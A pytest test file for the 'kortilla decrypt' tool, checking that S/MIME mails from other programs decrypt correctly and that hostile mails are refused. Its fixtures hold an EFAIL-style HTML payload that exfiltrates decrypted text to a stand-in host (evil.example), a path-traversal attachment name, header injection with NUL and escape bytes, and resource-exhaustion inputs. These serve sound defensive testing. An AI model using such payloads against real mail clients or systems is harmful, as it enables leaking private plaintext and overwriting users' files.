# SPDX-License-Identifier: MIT
"""``kortilla decrypt`` with saved mails: those of other programs, and hostile ones."""

import base64
from collections.abc import Callable
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pytest
from asn1crypto import pem

from kortilla.encryption import Recipient, encrypt_message
from kortilla.mock_card.state import MockCardState
from native_host.files.letters import MAX_MAIL
from tests.cli.conftest import NewCard, Run
from tests.cli.test_decrypt import (
    AUTOMATIC,
    CONTENT,
    message,
    names,
    recipient,
    refusal,
)
from tests.kortilla.encryption.keys import openssl

#: What a mail says before its content.
SHOWN = {
    "From": "SPECIMEN-Sender <sender@service.example>",
    "To": "specimen@person.example",
    "Date": "Sun, 29 Nov 2026 12:00:00 +0000",
    "Subject": "Päätös",
    "Message-ID": "<1@service.example>",
}
WORDS = "Hyvää päivää\n"
KIND = b"Content-Type: application/pkcs7-mime; name=%s\r\n\r\n"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "files"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def card(new_card: NewCard) -> MockCardState:
    return new_card("v5", "active")


def letter(recipient: Recipient, *, authenticated: bool = True) -> bytes:
    """Return a mail as Thunderbird saves it, also without its first line."""
    mail = EmailMessage(policy.SMTP)
    for name, value in SHOWN.items():
        mail[name] = value
    mail.set_content(WORDS)
    sealed = encrypt_message(mail, [recipient], authenticated=authenticated)
    return b" by mail.example\r\nX-Mozilla-Status: 0001\r\n" + sealed.as_bytes()


def attached(*parts: bytes) -> bytes:
    """Return a mail with parts, in which the person wrote nothing."""
    head = "".join(f"{name}: {value}\r\n" for name, value in SHOWN.items())
    head += 'Content-Type: multipart/mixed; boundary="="\r\n'
    whole = b"".join(b"\r\n--=\r\n" + each for each in parts)
    return head.encode() + whole + b"\r\n--=--\r\n"


def by_openssl(folder: Path, card: MockCardState, *words: str) -> bytes:
    certificate = pem.armor("CERTIFICATE", recipient(card).der)
    (folder / "certificate.pem").write_bytes(certificate)
    content = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + WORDS.encode()
    options = ("-encrypt", "-binary", "-aes256", "-recip", "certificate.pem")
    return openssl(*options, *words, content=content)


def _of_openssl(folder: Path, card: MockCardState) -> bytes:
    head = [f"-{name.lower()}={SHOWN[name]}" for name in ("From", "To")]
    return by_openssl(folder, card, "-outform", "SMIME", *head, "-subject", "Päätös")


def _attachment(folder: Path, card: MockCardState) -> bytes:
    """A gateway has put a text around it, in which it is a file of any kind."""
    words = b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/?"
    sealed = base64.encodebytes(by_openssl(folder, card, "-outform", "DER"))
    head = b"Content-Type: application/octet-stream\r\n"
    head += b"Content-Transfer-Encoding: base64\r\n"
    head += b"Content-Disposition: attachment; filename=smime.p7m\r\n\r\n"
    inner = b"Content-Type: multipart/alternative; boundary=+\r\n\r\n--+\r\n"
    return attached(inner + words + b"\r\n--+--\r\n", head + sealed, words)


def _binary(folder: Path, card: MockCardState) -> bytes:
    sealed = by_openssl(folder, card, "-outform", "DER")
    return attached(KIND.replace(b"pkcs7", b"X-PKCS7") % b"a" + sealed)


LETTERS: dict[str, tuple[Callable[[Path, MockCardState], bytes], bool]] = {
    "GCM": (lambda _, card: letter(recipient(card)), True),
    "CBC": (lambda _, card: letter(recipient(card), authenticated=False), False),
    "LF": (lambda _, card: letter(recipient(card)).replace(b"\r\n", b"\n"), True),
    "OpenSSL": (_of_openssl, False),
    "attachment": (_attachment, False),
    "binary": (_binary, False),
}


@pytest.mark.parametrize("kind", LETTERS)
def test_a_saved_mail_becomes_one_that_a_mail_program_shows(
    run: Run, folder: Path, card: MockCardState, kind: str
) -> None:
    make, authenticated = LETTERS[kind]
    original = make(folder, card)
    (folder / "letter.eml").write_bytes(original)
    outcome = run("decrypt", "letter.eml", *AUTOMATIC)
    assert outcome.status == 0
    assert outcome.result["files"][0]["authenticated"] is authenticated
    assert (folder / "letter.eml").read_bytes() == original
    made = (folder / "letter-2.eml").read_bytes()
    mail = message_from_bytes(made, policy=policy.default)
    assert mail.get_content().splitlines() == WORDS.splitlines()
    assert mail["From"] == SHOWN["From"]
    assert mail["Subject"] == SHOWN["Subject"]
    assert all(len(mail.get_all(name, [])) <= 1 for name in SHOWN)
    assert b"evil" not in made


def test_pem_is_read_too(run: Run, folder: Path, card: MockCardState) -> None:
    (folder / "a.txt.pem").write_bytes(by_openssl(folder, card, "-outform", "PEM"))
    assert run("decrypt", "a.txt.pem", *AUTOMATIC).status == 0
    assert (folder / "a.txt").read_bytes().endswith(WORDS.encode())


def test_what_a_mail_says_inside_counts_and_the_rest_does_no_harm(
    run: Run, folder: Path, card: MockCardState
) -> None:
    inner = b"Subject: Inside\r\nContent-Type: text/plain\r\n\r\nHei"
    sealed = message(recipient(card), content=inner)
    outer = (
        b"Subject: Outside\r\nBcc: a@b.example\r\nFrom: SPECIMEN\0\x1b[1m\r\n -A\r\n"
    )
    (folder / "letter.eml").write_bytes(outer + KIND % b"a" + sealed)
    assert run("decrypt", "letter.eml", *AUTOMATIC).status == 0
    made = (folder / "letter-2.eml").read_bytes()
    assert made == b"From: SPECIMEN[1m\r\n -A\r\n" + inner


@pytest.mark.parametrize(
    ("given", "made"),
    [
        (b"sopimus.pdf.p7m", "sopimus.pdf"),
        (b'"../..\\\\.profile\t.p7m"', "profile_"),
        (b"..p7m", "p7m"),
        (b"a", "a"),
    ],
)
def test_an_encrypted_file_in_a_mail_has_its_own_name(
    run: Run, folder: Path, card: MockCardState, given: bytes, made: str
) -> None:
    mail = attached(KIND % given + message(recipient(card)))
    (folder / "letter.eml").write_bytes(mail)
    assert run("decrypt", "letter.eml", *AUTOMATIC).status == 0
    assert (folder / made).read_bytes() == CONTENT
    assert names(folder) == {"letter.eml", made}


def _nested(_: MockCardState) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" * 100_000


def _too_many_parts(card: MockCardState) -> bytes:
    return attached(*[b"\r\n"] * 10_000, letter(recipient(card)))


def _broken_base64(card: MockCardState) -> bytes:
    head, body = letter(recipient(card)).split(b"\r\n\r\n", 1)
    return head + b"\r\n\r\n" + body[:100] + b"!" + body[101:]


def _too_large(card: MockCardState) -> bytes:
    return letter(recipient(card)) + bytes(MAX_MAIL)


def _signed(_: MockCardState) -> bytes:
    kind = KIND.strip() % b"smime.p7m" + b"; smime-type=signed-data\r\n\r\n"
    return kind + b"\x30\x80"


HOSTILE: dict[str, tuple[Callable[[MockCardState], bytes], str]] = {
    "a mail": (lambda _: b"Subject: Hei\r\n\r\nHei", "not-encrypted"),
    "a mail's headers": (lambda _: b"A: b\r\n" * 100_000, "not-encrypted"),
    "a long header": (lambda _: KIND % (b";" * 100_000), "not-encrypted"),
    "a NUL": (lambda _: KIND.replace(b"-mime", b"-mime\0") % b"a", "not-encrypted"),
    "nothing in a mail": (lambda _: KIND % b"a", "not-encrypted"),
    "10,000 parts": (_too_many_parts, "not-encrypted"),
    "nested mails": (_nested, "not-encrypted"),
    "broken base64": (_broken_base64, "not-encrypted"),
    "a large mail": (_too_large, "unsupported"),
    "cut PEM": (lambda _: b"-----BEGIN CMS-----\nMII\n", "not-encrypted"),
    "a signed mail": (_signed, "not-encrypted"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_mail_is_refused_without_pin1(
    run: Run, card: MockCardState, folder: Path, kind: str
) -> None:
    make, reason = HOSTILE[kind]
    bad = folder / "bad.eml"
    bad.write_bytes(make(card))
    assert refusal(run, card, bad) == reason
